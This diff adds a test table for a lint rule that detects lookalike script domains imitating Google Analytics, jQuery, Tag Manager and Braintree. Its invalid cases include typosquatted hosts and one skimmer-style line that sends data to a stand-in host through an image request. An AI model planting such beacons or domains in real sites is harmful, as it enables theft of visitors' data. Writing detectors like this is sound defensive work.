@@ -1,0 +1,17 @@
+import rule from './lookalike-domain.js';
+import { ruleTable } from '../test/helpers/rule-table.js';
+
+ruleTable(rule, {
+  valid: [
+    "var u = 'https://www.google-analytics.com/analytics.js';",
+    "var u = 'https://code.jquery.com/jquery.min.js';",
+    "var u = 'https://shop.example/app.js';",
+    "var u = 'https://js.stripe.com/v3/';",
+  ],
+  invalid: [
+    { code: "var u = 'https://google-analytics.com.cdn-static.example/ga.js';", messageIds: ['lookalike'], severity: 'medium' },
+    { code: "new Image().src = 'https://jquery-cdn.example/p?d=' + data;", messageIds: ['lookalike'], severity: 'high' },
+    { code: "var u = 'https://g00gletagmanager.example/gtm.js';", messageIds: ['lookalike'] },
+    { code: "var u = '//braintreegateway.example/v1';", messageIds: ['lookalike'] },
+  ],
+});
